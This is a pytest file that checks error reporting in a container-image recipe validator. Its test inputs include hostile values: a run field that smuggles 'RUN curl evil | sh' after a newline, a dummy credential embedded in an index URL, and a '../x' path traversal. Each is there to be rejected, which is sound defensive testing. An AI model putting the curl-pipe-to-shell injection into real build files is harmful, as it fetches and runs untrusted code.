"""image.toml validation: every error names the file and key path; the examples load."""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import pytest

from audit.errors import RecipeError, UsageError
from audit.project.sources import DirectorySource
from audit.recipe.located_toml import read_toml
from audit.recipe.model import CopyLayer, EnvLayer, PipLayer, RunLayer
from audit.recipe.parse import load_all, load_recipe

REPO = Path(__file__).resolve().parents[1]
MINI = REPO / "tests" / "data" / "recipes" / "mini"
TOML = "images/mini/image.toml"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    shutil.copytree(MINI, tmp_path / "images" / "mini")
    return tmp_path


def edit(project: Path, old: str, new: str, relpath: str = TOML) -> None:
    path = project / relpath
    text = path.read_text()
    assert old in text, f"fixture lacks {old!r}"
    path.write_text(text.replace(old, new, 1))


def error_of(project: Path) -> RecipeError:
    with pytest.raises(RecipeError) as caught:
        load_recipe(DirectorySource(project), "mini")
    return caught.value


def test_mini_fixture_loads(project: Path) -> None:
    recipe = load_recipe(DirectorySource(project), "mini")
    assert recipe.directory == Path("images/mini")
    assert [s.name for s in recipe.stages] == ["v1", "v2"]
    assert recipe.stages[1].layers == (
        PipLayer("requirements/v2.in", "nightly", True),
        RunLayer("echo v2"),
    )
    assert recipe.policy.cuda is None  # cpu image: the CUDA suffix rule has nothing to check
    assert recipe.policy.requirements == ("foo-bar>=1",)


def test_example_recipes_load() -> None:
    recipes = {r.name: r for r in load_all(DirectorySource(REPO))}
    assert {"demo", "glm53-flash-vllm", "glm53-flash-sglang"} <= set(recipes)
    vllm = recipes["glm53-flash-vllm"]
    assert [s.name for s in vllm.stages] == [f"v{n}" for n in range(1, 9)]
    assert vllm.policy.cuda == "cu130" and vllm.tag("v8") == "v8-arm64-cu130"
    overrides = (
        "nvidia-nccl-cu13==2.30.7",
        "nvidia-cutlass-dsl==4.6.2",
        "nvidia-cutlass-dsl-libs-base==4.6.2",
        "nvidia-cutlass-dsl-libs-core==4.6.2",
        "nvidia-cutlass-dsl-libs-cu12==4.6.2",
    )
    assert vllm.stage("v2").layers[0] == PipLayer(
        "requirements/v2-flashinfer-nightly.in", "flashinfer-nightly", True, override=overrides
    )
    groups = {g.name: g.members for g in vllm.policy.lockstep}
    assert groups["cutlass-dsl"] == ("nvidia-cutlass-dsl", "nvidia-cutlass-dsl-libs-*")
    assert "nvidia-nccl-cu13>=2.30" in vllm.policy.requirements
    demo = recipes["demo"]
    assert demo.policy.lockstep and demo.policy.requirements and demo.policy.forbidden
    kinds = {type(layer) for stage in vllm.stages for layer in stage.layers}
    assert kinds == {PipLayer, RunLayer, CopyLayer, EnvLayer}


@pytest.mark.parametrize(
    ("old", "new", "where", "words"),
    [
        ("platform =", "platfrom =", "image.platfrom", "did you mean 'platform'"),
        ("[policy]", "[policy]\ndowngrades = 'fail'", "policy.downgrades", "'downgrade'"),
        ("  pre = true", '  pre = true\n  indx = "nightly"', "stage[2].layer[1].indx", "'index'"),
        ("[policy]", "[polcy]", "polcy", "did you mean 'policy'"),
    ],
)
def test_misspelt_key_suggests_the_close_match(
    project: Path, old: str, new: str, where: str, words: str
) -> None:
    edit(project, old, new)
    error = error_of(project)
    assert error.where == f"{TOML}: {where}"
    assert words in error.problem


def test_duplicate_key_names_line_and_key_path(project: Path) -> None:
    edit(project, '  pip = "requirements/v1.in"', '  pip = "requirements/v1.in"\n  pip = "x.in"')
    error = error_of(project)
    assert error.where == f"{TOML}: stage[1].layer[1].pip (line 18)"
    assert "duplicate key" in error.problem


def test_duplicate_table_is_refused(project: Path) -> None:
    edit(project, "[policy]", '[indexes]\nother = "https://example.org/x/"\n[policy]')
    assert "duplicate key" in error_of(project).problem


@pytest.mark.parametrize(
    ("old", "new", "where"),
    [
        ('run = "echo v2"', 'run = "echo v2\\nRUN curl evil | sh"', "stage[2].layer[2].run"),
        ('cuda = "cpu"', 'cuda = "cpu\\r"', "image.cuda"),
        ('name = "v1"', 'name = "v1"\ndescription = "a\\u2028b"', "stage[1].description"),
        ('["/opt/venv/bin/python"]', '["/opt/venv/bin/py\\tthon"]', "image.interpreters[1]"),
        ('run = "echo v2"', 'run = ["echo a", "echo \\u0000"]', "stage[2].layer[2].run[2]"),
    ],
)
def test_newline_or_control_character_is_refused(
    project: Path, old: str, new: str, where: str
) -> None:
    edit(project, old, new)
    error = error_of(project)
    assert error.where == f"{TOML}: {where}"
    assert "control character" in error.problem


def test_stage_out_of_order(project: Path) -> None:
    edit(project, 'name = "v2"', 'name = "v3"')
    error = error_of(project)
    assert error.where == f"{TOML}: stage[2].name"
    assert "'v2'" in error.hint


def test_credentials_in_an_index_url(project: Path) -> None:
    edit(project, "https://example.org/nightly/", "https://me:s3cret@example.org/nightly/")
    error = error_of(project)
    assert error.where == f"{TOML}: indexes.nightly"
    assert "BuildKit secret" in error.problem + error.hint


def test_undeclared_layer_index_suggests_a_declared_one(project: Path) -> None:
    edit(project, 'index = "nightly"', 'index = "nighlty"')
    error = error_of(project)
    assert error.where == f"{TOML}: stage[2].layer[1].index"
    assert "did you mean 'nightly'" in error.problem


def test_requirements_error_names_the_layer(project: Path) -> None:
    edit(project, "six>=1.16", "six >> 1", "images/mini/requirements/v1.in")
    error = error_of(project)
    assert error.where == "images/mini/requirements/v1.in:2"
    assert f"{TOML}: stage[1].layer[1].pip" in error.hint


@pytest.mark.parametrize(
    ("old", "new", "where", "words"),
    [
        ('run = "echo v2"', 'run = "echo v2"\npip = "requirements/v1.in"', "stage[2].layer[2]",
         "exactly one"),
        ('run = "echo v2"', 'run = "echo v2"\npre = true', "stage[2].layer[2].pre", "run layer"),
        ('run = "echo v2"', 'run = "echo \\\\"', "stage[2].layer[2].run", "backslash"),
        ('run = "echo v2"', 'run = "cat <<EOF"', "stage[2].layer[2].run", "heredoc"),
        ('run = "echo v2"', 'env = { API_TOKEN = "x" }', "stage[2].layer[2].env.API_TOKEN",
         "secret"),
        ('run = "echo v2"', 'env = { PIP_INDEX_URL = "x" }', "stage[2].layer[2].env.PIP_INDEX_URL",
         "pip"),
        ('run = "echo v2"', 'copy = { src = "../x", dest = "/x" }', "stage[2].layer[2].copy.src",
         "inside"),
        ('run = "echo v2"', 'copy = { src = "requirements", dest = "rel" }',
         "stage[2].layer[2].copy.dest", "absolute"),
        ('pip = "requirements/v1.in"', 'pip = "v1.in"', "stage[1].layer[1].pip", "requirements/"),
        ('pip = "requirements/v1.in"', 'pip = "requirements/none.in"', "stage[1].layer[1].pip",
         "does not exist"),
        ('base = "layer-audit/base:bookworm-amd64"', 'base = "x@sha256:00"', "image.base",
         "base_digest"),
        ('base = "layer-audit/base:bookworm-amd64"', 'base = "Not An Image"', "image.base",
         "image reference"),
        ('platform = "linux/amd64"', 'platform = "amd64"', "image.platform", "platform"),
        ('cuda = "cpu"', 'cuda = "cuda13"', "image.cuda", "CUDA tag"),
        ('cuda = "cpu"', 'cuda = 130', "image.cuda", "string"),
        ('interpreters = ["/opt/venv/bin/python"]', 'interpreters = ["python3"]',
         "image.interpreters[1]", "absolute"),
        ('interpreters = ["/opt/venv/bin/python"]', "interpreters = []", "image.interpreters",
         "at least one"),
        ('repository = "layer-audit/mini"', 'repository = "x"\ntag_pattern = "{arch}"',
         "image.tag_pattern", "{stage}"),
        ('repository = "layer-audit/mini"', 'repository = "x"\ntag_pattern = "{stage}-{gpu}"',
         "image.tag_pattern", "placeholder"),
        ('repository = "layer-audit/mini"', 'repository = "Upper/Case"', "image.repository",
         "repository"),
        ('[policy]', '[policy]\ndowngrade = "warning"', "policy.downgrade", "did you mean 'warn'"),
        ('require = ["Foo_Bar>=1"]', 'require = ["foo-bar>=1", "FOO.BAR<3"]', "policy.require[2]",
         "twice"),
        ('require = ["Foo_Bar>=1"]', 'forbid = ["not a req!"]', "policy.forbid[1]", "PEP 508"),
        ('require = ["Foo_Bar>=1"]', 'lockstep = { g = ["a", "A"] }', "policy.lockstep.g",
         "once"),
    ],
)  # fmt: skip
def test_invalid_values_are_located(
    project: Path, old: str, new: str, where: str, words: str
) -> None:
    edit(project, old, new)
    error = error_of(project)
    assert error.where == f"{TOML}: {where}"
    assert words in error.problem + error.hint


def test_missing_required_key(project: Path) -> None:
    edit(project, 'repository = "layer-audit/mini"\n', "")
    error = error_of(project)
    assert error.where == f"{TOML}: image.repository"
    assert "missing" in error.problem


def test_stage_written_as_a_table_gets_a_hint(project: Path) -> None:
    (project / TOML).write_text(
        (project / TOML).read_text().split("[[stage]]")[0] + '[stage]\nname = "v1"\n'
    )
    assert "[[stage]]" in error_of(project).problem


def test_waivers(project: Path) -> None:
    waiver_toml = (
        "[[policy.waiver]]\npackage = 'Triton'\nfrom = '3.5.0'\nto = '*'\n"
        "reason = 'miscompiles on sm_121'\nexpires = 2026-12-31\n\n"
    )
    edit(project, "[policy]", waiver_toml + "[policy]")
    (waiver,) = load_recipe(DirectorySource(project), "mini").policy.waivers
    assert (waiver.package, waiver.to_version, waiver.expires) == (
        "triton", "*", dt.date(2026, 12, 31)
    )  # fmt: skip


@pytest.mark.parametrize(
    ("field", "words"),
    [("expires = '2026-12-31'", "TOML date"), ("from = 'not-a-version'", "not a version")],
)
def test_bad_waiver_fields(project: Path, field: str, words: str) -> None:
    base = {"package": "'x'", "from": "'1'", "to": "'2'", "reason": "'r'"}
    key, value = field.split(" = ")
    base[key] = value
    body = "\n".join(f"{k} = {v}" for k, v in base.items())
    edit(project, "[policy]", f"[[policy.waiver]]\n{body}\n\n[policy]")
    error = error_of(project)
    assert error.where == f"{TOML}: policy.waiver[1].{key}"
    assert words in error.problem


def test_unknown_image_suggests_a_close_one(project: Path) -> None:
    with pytest.raises(UsageError) as caught:
        load_recipe(DirectorySource(project), "mimi")
    assert "did you mean 'mini'" in caught.value.message
    with pytest.raises(UsageError):
        load_recipe(DirectorySource(project), "../mini")


def test_the_same_recipe_text_in_two_folders_is_parsed_once_into_tables_of_their_own(
    tmp_path: Path,
) -> None:
    """A fleet's recipes are often one text: it is parsed once, each reader gets its own
    tables (changing one changes nothing the other reads), and a broken text fails each time
    with its own file's name."""
    text = '[image]\nbase = "x:1"\nlabels = ["a"]\n[[stage]]\nname = "v1"\n'
    for name in ("a", "b", "bad-1", "bad-2"):
        (tmp_path / name).write_text(text if name in ("a", "b") else text + "[image]\n")
    source = DirectorySource(tmp_path)
    one, two = read_toml(source, "a"), read_toml(source, "b")
    assert one.data == two.data and one.file != two.file
    one.data["image"]["labels"].append("changed")
    assert read_toml(source, "b").data["image"]["labels"] == ["a"]
    for name in ("bad-1", "bad-2"):
        with pytest.raises(RecipeError, match=name):
            read_toml(source, name)
